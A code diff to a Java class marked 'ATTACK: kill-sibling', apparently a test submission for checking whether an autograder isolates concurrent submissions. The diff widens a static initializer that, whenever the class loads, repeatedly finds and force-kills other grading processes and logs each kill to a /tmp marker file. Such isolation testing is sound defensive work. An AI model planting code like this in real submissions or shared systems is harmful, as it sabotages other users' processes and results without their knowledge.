@@ -1,7 +1,7 @@
 // ATTACK: kill-sibling
-// The reference 7.1, plus a static initializer that, for 20 s (the first 7.1 check; the limit is 60 s), kills every
+// The reference 7.1, plus a static initializer that, for 3 s (on every load of the class), kills every
 // other grading child it can see: ProcessHandle.allProcesses() whose command line contains
-// "d2l.grader.GradingChild" and that is not this JVM, with destroyForcibly(), every 100 ms. With
+// "d2l.grader.GradingChild" or "d2l.grader.runner.Runner" and that is not this JVM, with destroyForcibly(), every 100 ms. With
 // `--roster R --jobs 2` the other submission graded at the same time loses every check that was running while it
 // was killed. Marker: /tmp/PWNED-kill-sibling (one line per kill: pid and command line).
 // A safe grader isolates submissions from each other (separate PID namespaces / users): the victim's score equals
@@ -222,12 +222,12 @@ public class Sec7_1 {
     // ---- attack helper (kill-sibling) ----
     static {
         long self = ProcessHandle.current().pid();
-        long end = System.nanoTime() + 20_000_000_000L;
+        long end = System.nanoTime() + 3_000_000_000L;
         StringBuilder log = new StringBuilder();
         while (System.nanoTime() < end) {
             ProcessHandle.allProcesses()
                     .filter(p -> p.pid() != self)
-                    .filter(p -> p.info().commandLine().orElse("").contains("d2l.grader.GradingChild"))
+                    .filter(p -> p.info().commandLine().orElse("").contains("d2l.grader.GradingChild") || p.info().commandLine().orElse("").contains("d2l.grader.runner.Runner"))
                     .forEach(p -> {
                         if (p.destroyForcibly()) {
                             log.append("killed ").append(p.pid()).append(' ').append(p.info().commandLine().orElse("")).append('\n');
